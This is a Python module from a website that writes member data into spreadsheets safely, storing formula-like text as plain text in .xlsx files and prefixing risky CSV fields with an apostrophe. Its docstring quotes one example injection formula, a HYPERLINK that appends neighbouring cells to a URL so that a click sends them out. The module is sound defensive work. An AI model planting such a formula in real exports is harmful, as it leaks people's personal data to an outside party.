"""Every cell the site writes into a spreadsheet goes through here, so data never becomes a formula.

A member's name, home town or a rating note that starts with ``=`` is a live formula once
written into .xlsx: ``=HYPERLINK("http://…/?x="&D9&E9,"Xem hồ sơ")`` sends the neighbouring
cells away when the office clicks it (issue 12.1). Spreadsheet programs also read ``+``,
``-``, ``@``, a tab or a carriage return at the start of a CSV field as the start of a formula.

- .xlsx (openpyxl): the value is kept exactly as typed, but stored as text (data type ``s``),
  so Excel and LibreOffice show it and never evaluate it. ``set_cell`` / ``append_row`` write
  data cells; ``neutralise_formulae`` makes a finished workbook safe (django-import-export's
  output, which we stamp and re-save anyway).
- CSV: text cannot carry a type, so a field that starts with one of those characters gets a
  leading apostrophe (the usual OWASP advice); ``csv_safe`` does that.
"""

from __future__ import annotations

import re
from datetime import date

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """True for text a spreadsheet program could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(cell, value):
    """Give an openpyxl cell ``value``; text stays text, whatever it starts with."""
    cell.value = value
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def set_cell(sheet, row: int, column: int, value):
    """``sheet.cell(row, column, value)`` that never writes a formula."""
    return safe_cell(sheet.cell(row=row, column=column), value)


def append_row(sheet, values) -> int:
    """``sheet.append(values)`` that never writes a formula; returns the new row's number."""
    sheet.append(list(values))
    row = sheet.max_row  # append always writes below every existing row
    for cell in sheet[row]:
        if isinstance(cell.value, str) and cell.data_type == "f":
            cell.data_type = "s"
    return row


def neutralise_formulae(workbook) -> int:
    """Store every formula cell of a finished workbook as the text it holds; returns how many."""
    count = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    count += 1
    return count


_DMY_TEXT = re.compile(r"(\d{2})/(\d{2})/(\d{4})")


def dates_as_date_cells(workbook) -> int:
    """Turn every dd/mm/yyyy text cell into a real date cell shown dd/mm/yyyy; returns how many.

    django-import-export writes dates as the text its widgets render, so Excel could neither sort
    nor filter them as dates. A date cell still imports (the import reads real dates too).
    """
    count = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type != "s" or not isinstance(cell.value, str):
                    continue
                match = _DMY_TEXT.fullmatch(cell.value)
                if not match:
                    continue
                day, month, year = (int(part) for part in match.groups())
                try:
                    cell.value = date(year, month, day)
                except ValueError:
                    continue
                cell.number_format = "DD/MM/YYYY"
                count += 1
    return count


def csv_safe(value):
    """A CSV field that no spreadsheet program will run: a leading apostrophe before a trigger."""
    if is_formula_like(value):
        return "'" + value
    return value
